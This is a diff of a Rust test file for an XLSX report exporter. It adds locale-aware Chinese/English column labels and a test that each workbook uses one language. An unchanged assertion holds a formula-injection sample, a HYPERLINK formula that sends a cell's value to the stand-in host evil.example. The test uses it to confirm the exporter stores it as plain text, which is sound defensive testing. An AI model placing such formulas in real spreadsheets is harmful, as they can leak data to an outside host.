@@ -5,6 +5,7 @@ use std::io::Read;
 
 use super::forms::bytes;
 use super::*;
+use crate::domain::locale::Locale;
 use crate::report::columns::DAILY;
 use crate::report::xlsx::{XLSX_ROWS_MAX, workbook};
 use crate::report::{Cell, Column, Options, ReportError, ReportFormat};
@@ -54,15 +55,38 @@ fn the_workbook_holds_every_cell_and_not_one_formula() {
     let texts = &parts["xl/sharedStrings.xml"];
     assert!(texts.contains("=HYPERLINK(\"http://evil.example/?\"&amp;A1,\"点我\")"));
     assert!(
-        texts.contains("离网率\nchurn rate")
-            && texts.contains("出账金额(元)\nbilled yuan")
-            && texts.contains("超限 breach")
+        [">离网率<", ">出账金额(元)<", ">超限<", ">是<"]
+            .iter()
+            .all(|word| texts.contains(word)),
+        "{texts}"
     );
     assert!(!texts.chars().any(|c| c.is_control() && c != '\n') && !texts.contains("_x00"));
     assert!(
         parts["xl/styles.xml"].contains("FFFFC7CE"),
         "over-limit cells are coloured"
     );
+}
+
+#[test]
+fn a_workbook_is_in_one_language_its_readers() {
+    let texts = |locale| {
+        let options = Options {
+            locale,
+            ..Options::default()
+        };
+        let xlsx = bytes(&plain_rows(), ReportFormat::Xlsx, options);
+        let mut parts = unzip(&xlsx);
+        parts.remove("xl/sharedStrings.xml").expect("texts")
+    };
+    let (zh, en) = (texts(Locale::ZhCn), texts(Locale::En));
+    for (word, code) in [
+        (">层级<", ">scope<"),
+        (">集团<", ">group<"),
+        (">离网率<", ">churn rate<"),
+    ] {
+        assert!(zh.contains(word) && !zh.contains(code), "{zh}");
+        assert!(en.contains(code) && !en.contains(word), "{en}");
+    }
 }
 
 #[test]
@@ -78,10 +102,19 @@ fn a_workbook_refuses_more_rows_than_it_can_hold_and_cuts_what_no_cell_holds() {
     let columns = [Column::text("a", "甲")];
     let too_many = vec![[Cell::Null]; XLSX_ROWS_MAX + 1];
     assert!(matches!(
-        workbook("表", &columns, too_many.iter(), 0),
+        workbook("表", &columns, too_many.iter(), 0, Locale::ZhCn),
         Err(ReportError::TooManyRows { rows: 100_001, .. })
     ));
     let long = "😀".repeat(20_000);
-    let parts = unzip(&workbook("表", &columns, [[Cell::from(long.as_str())]].iter(), 0).unwrap());
+    let parts = unzip(
+        &workbook(
+            "表",
+            &columns,
+            [[Cell::from(long.as_str())]].iter(),
+            0,
+            Locale::ZhCn,
+        )
+        .unwrap(),
+    );
     assert_eq!(parts["xl/sharedStrings.xml"].matches('😀').count(), 16_383);
 }
